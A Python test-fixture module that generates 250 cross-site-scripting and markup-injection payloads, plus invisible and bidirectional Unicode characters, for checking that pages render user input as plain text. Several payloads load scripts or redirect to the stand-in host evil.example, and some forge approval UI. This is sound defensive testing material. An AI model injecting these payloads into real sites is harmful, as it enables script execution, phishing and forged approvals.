"""Texts that would become markup, script or another order of reading, were they not shown as text.

Every one calls `pwn(n)` or carries `pwnN` where a tag or attribute would get its name, so that a
page tells whether it stayed text.
"""

import unicodedata

SEEDS = (
    # elements that run something by themselves
    "<script>pwn({n})</script>",
    "<script src=//evil.example/pwn{n}></script>",
    "<img src=x onerror=pwn({n})>",
    "<svg pwn{n} onload=pwn({n})>",
    "<svg><script>pwn({n})</script></svg>",
    "<svg><animate pwn{n} onbegin=pwn({n}) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,pwn{n}#a></use></svg>",
    "<math><mtext pwn{n}><img src=1 onerror=pwn({n})></mtext></math>",
    "<iframe srcdoc='<b>pwn({n})</b>'></iframe>",
    "<object data=javascript:pwn({n})></object>",
    "<embed src=javascript:pwn({n})>",
    "<body pwn{n} onload=pwn({n})>",
    "<video><source pwn{n} onerror=pwn({n})></video>",
    "<details open pwn{n} ontoggle=pwn({n})><summary>more</summary></details>",
    "<input autofocus pwn{n} onfocus=pwn({n})>",
    "<dialog open pwn{n}>Sign in again</dialog>",
    "<marquee pwn{n} onstart=pwn({n})>paid</marquee>",
    "<link rel=stylesheet href=//evil.example/pwn{n}.css>",
    "<style>pwn{n} {{ display: none }} @import '//evil.example/{n}';</style>",
    "<base pwn{n} href=//evil.example/>",
    "<meta pwn{n} http-equiv=refresh content='0;url=//evil.example/'>",
    "<form pwn{n} action=//evil.example/><button>Approve change</button></form>",
    "<template pwn{n}><p>hidden</p></template>",
    "<noscript><p pwn{n} title='</noscript><img src=x onerror=pwn({n})>'></noscript>",
    "<pwn{n}-box onclick=pwn({n})>press</pwn{n}-box>",
    # ways out of where the text stands
    '"><img pwn{n} src=x onerror=pwn({n})>',
    "'><img pwn{n} src=x onerror=pwn({n})>",
    '" onmouseover=pwn({n}) pwn{n}="',
    "' autofocus onfocus=pwn({n}) pwn{n}='",
    "</textarea><script>pwn({n})</script>",
    "</title><script>pwn({n})</script>",
    "</option></select><img pwn{n} src=x onerror=pwn({n})>",
    "--><script>pwn({n})</script><!--",
    "]]><script>pwn({n})</script>",
    "</svg></math></table><p pwn{n}>outside</p>",
    "</mark></p></li></ol></article><h1 pwn{n}>Approved by Ana</h1>",
    # addresses
    "[read more](javascript:pwn({n}))",
    "<a href=javascript:pwn({n})>receipt</a>",
    "<a href='data:text/html,pwn({n})'>receipt</a>",
    "javascript:pwn({n})//",
    # what the parts of this page obey
    "<div pwn{n} hx-get=/pwn hx-trigger=load></div>",
    "<b pwn{n} hx-on::load=pwn({n})>x</b>",
    "<i data-poll=1 pwn{n} hx-post=/w/x/review/P-1/approve/ hx-trigger=dream-tick></i>",
    "<div id=pane hx-swap-oob=true pwn{n}>Decided</div>",
    "<button data-key=a pwn{n}>A</button>",
    # templates and formats
    "{{{{ pwn{n}|safe }}}}{{% include 'pwn{n}' %}}",
    "{{% endblock %}}<script>pwn({n})</script>",
    "%(pwn{n})s {{0.__class__}} ${{pwn({n})}} #{{pwn({n})}}",
    # entities
    "&lt;script&gt;pwn({n})&lt;/script&gt;",
    "&#60;img src=x onerror=pwn({n})&#62; &amp;lt;b pwn{n}&amp;gt;",
)


def swap_case(text: str) -> str:
    """Write every other letter of the tags' names large."""
    out, inside = [], False
    for at, char in enumerate(text):
        inside = (inside or char == "<") and char not in " >"
        out.append(char.upper() if inside and at % 2 else char)
    return "".join(out)


def break_tags(text: str) -> str:
    """Part names and attributes by a slash or a line feed instead of a blank."""
    return text.replace(" on", "/on").replace(" src", "\nsrc").replace("=pwn", "\t=\tpwn")


def left_open(text: str) -> str:
    """Leave the last tag open, so that what follows on the page would belong to it."""
    return text.rstrip(">") + " "


def doubled(text: str) -> str:
    """Put the text inside of a tag of its own kind, for who takes tags away once only."""
    return f"<<{text[1:]}" if text.startswith("<") else f"{text}{text[:1]}"


VARIANTS = (str, swap_case, break_tags, left_open, doubled)
PAYLOADS = tuple(
    change(seed.format(n=at * len(VARIANTS) + turn)).strip()
    for at, seed in enumerate(SEEDS)
    for turn, change in enumerate(VARIANTS)
)
"""250 texts."""

BIDIRECTIONAL = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u180e\u00ad\u034f"
FILLERS = "\u115f\u1160\u3164\uffa0\u2800\u17b4\u17b5\u180b\u180c\u180d"
SPACES = "\u00a0\u1680\u2000\u2003\u2009\u200a\u202f\u205f\u2028\u2029"
OTHERS = (
    "\x07\x08\x1b\x7f\x85\ufffb\ufff9\ue000\U000e0001\U000e0041\U000e007f\ufe00\ufe0e\U000e0100"
)
SELECTORS = "\U0001d173\U000f0000"
HIDDEN = tuple(BIDIRECTIONAL + ZERO_WIDTH + FILLERS + SPACES + OTHERS + SELECTORS)
"""60 characters that do not show, or turn what is read."""


def disguise(char: str, number: int) -> str:
    """Return an order to pay with the character in its middle."""
    return f"Pay{char}now {number}"


def box_of(char: str) -> str:
    """Return what the page prints for the character."""
    return f"U+{ord(char):04X}"


def name_of(char: str) -> str:
    """Return the character's name, for the failing test to say."""
    return unicodedata.name(char, "control character")
